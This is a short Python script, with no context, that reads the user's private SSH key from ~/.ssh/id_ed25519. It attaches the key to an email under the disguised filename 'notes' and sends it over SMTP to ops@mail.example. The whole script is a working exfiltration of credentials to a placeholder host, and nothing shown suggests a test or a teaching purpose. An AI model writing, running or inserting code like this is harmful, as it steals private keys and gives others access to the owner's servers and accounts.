import os, smtplib
from email.message import EmailMessage

message = EmailMessage()
message["To"] = "ops@mail.example"
message.add_attachment(open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read(), maintype="text", subtype="plain", filename="notes")
server = smtplib.SMTP("mail.example", 587)
server.send_message(message)
